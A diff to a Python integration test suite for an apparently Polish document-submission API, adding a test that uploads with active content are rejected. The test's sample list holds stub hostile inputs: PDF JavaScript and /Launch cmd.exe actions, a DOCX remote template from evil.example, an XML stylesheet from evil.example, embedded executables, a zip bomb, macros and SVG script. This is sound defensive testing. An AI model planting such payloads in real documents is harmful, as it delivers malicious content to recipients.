@@ -16,12 +16,13 @@ from botocore.exceptions import ClientError
 
 from chalicelib.resources import bucket_name
 from chalicelib.services.submissions import logic
-from tests import queues
-from tests.files import make_elf, make_pdf
+from tests import hostile, queues
+from tests.files import DOCX, ODT, make_docx, make_elf, make_odt, make_pdf, zipped
 from tests.integration.test_submissions import A, application, call, me, submit
 from tests.uploads import post_file
 
 SECOND_UPLOAD = "więcej niż jeden plik"
+PDF, XML = "application/pdf", "application/xml"
 
 
 @pytest.fixture(autouse=True)
@@ -31,9 +32,9 @@ def _clean_queues(platform: None) -> Iterator[None]:
     yield
 
 
-def slot(api: Any, content: bytes) -> dict[str, Any]:
+def slot(api: Any, content: bytes, content_type: str = "application/pdf") -> dict[str, Any]:
     status, body = call(api, "POST", f"/v1/tenants/{A}/services/pismo-ogolne/attachments",
-                        {"filename": "skan.pdf", "content_type": "application/pdf", "size": len(content)}, me())
+                        {"filename": "plik", "content_type": content_type, "size": len(content)}, me())
     assert status == 201, body
     return dict(body)
 
@@ -107,3 +108,38 @@ def test_a_file_posted_to_a_released_slot_changes_nothing(api: Any) -> None:
     state = seen(api, s["attachment_id"])
     assert state["status"] == "przyjety" and state["sha256"] == hashlib.sha256(pdf).hexdigest()
     assert released(s["attachment_id"]) == pdf
+
+
+HOSTILE = [
+    (hostile.pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), PDF, "skrypt"),
+    (hostile.pdf_with_action_in_object_stream(b"<< /S /Launch /F (cmd.exe) >>"), PDF, "/Launch"),
+    (make_pdf() + zipped(("payload.exe", b"MZ")), PDF, "ZIP"),
+    (hostile.docx(("word/_rels/settings.xml.rels", hostile.relationships(
+        ("attachedTemplate", "http://evil.example/t.dotm", "External")))), DOCX, "zdalny szablon"),
+    (hostile.docx(("word/media/narzedzie.exe", b"MZ")), DOCX, "program"),
+    (hostile.zip_bomb(), DOCX, "bomba ZIP"),
+    (hostile.odt(("Basic/Standard/Module1.xml", b"<a/>")), ODT, "makra"),
+    (b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><a/>', XML,
+     "xml-stylesheet"),
+    (b'<wniosek><s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg></wniosek>', XML,
+     "SVG"),
+]
+
+
+def test_active_content_is_refused_with_its_reason_and_never_released(api: Any) -> None:
+    uploaded = []
+    for content, kind, _ in HOSTILE:
+        s = slot(api, content, kind)
+        assert post_file(s["upload"], content) == 204
+        uploaded.append(s["attachment_id"])
+    queues.deliver(api, "attachment-uploads", "attachment_uploads", wait=1)
+    for attachment_id, (_, _, reason) in zip(uploaded, HOSTILE, strict=True):
+        state = seen(api, attachment_id)
+        assert state["status"] == "odrzucony" and reason in state["reason"], state
+        assert released(attachment_id) is None
+    # While an ordinary document of each type is released as before
+    for content, kind in ((make_pdf(), PDF), (make_docx(), DOCX), (make_odt(), ODT), (b"<wniosek/>", XML)):
+        s = slot(api, content, kind)
+        assert post_file(s["upload"], content) == 204
+        queues.deliver(api, "attachment-uploads", "attachment_uploads", wait=1)
+        assert seen(api, s["attachment_id"])["status"] == "przyjety"
